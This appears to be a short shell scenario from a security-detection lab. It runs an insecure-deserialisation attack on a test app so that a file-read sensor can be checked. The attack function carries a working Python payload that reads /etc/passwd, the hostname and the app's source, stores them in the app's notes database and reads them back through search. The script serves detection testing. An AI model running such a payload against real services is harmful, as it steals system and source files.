# The app's insecure deserialisation once more (see app-deserialize-exfil), now taking only ordinary files: the code
# run inside the app reads the account list, the host's name and the app's own source, stores them as a note, and
# the attacker reads the note back through the app's search. No sensitive file, no environment, nothing sent out,
# no program started: the sensor reports these reads only when asked for every read (`kestrel record --reads`), and
# what gives the theft away is then the service reading where, past its start-up (it listens: it serves), it never
# reads (T1190, T1059.006, T1005).
IMAGE=app
normal() { app_traffic "$WEB_PORT" 60; }
attack() {
  app_unpickle "$WEB_PORT" "import sqlite3
loot = ''
for name in ('/etc/passwd', '/etc/hostname', '/srv/app/app.py'):
    try:
        with open(name, errors='replace') as f:
            loot += f.read()
    except OSError:
        pass
c = sqlite3.connect('/srv/app/data/notes.db', timeout=10)
c.execute('INSERT INTO notes (title, body, at) VALUES (?, ?, 0)', ('notes', loot))
c.commit()
c.close()"
  # The attacker reads it back: the search names the note, the note holds the loot (kept for the lab's test).
  app_read_back "$WEB_PORT" "$LAB_DIR/read.$$.out"
}
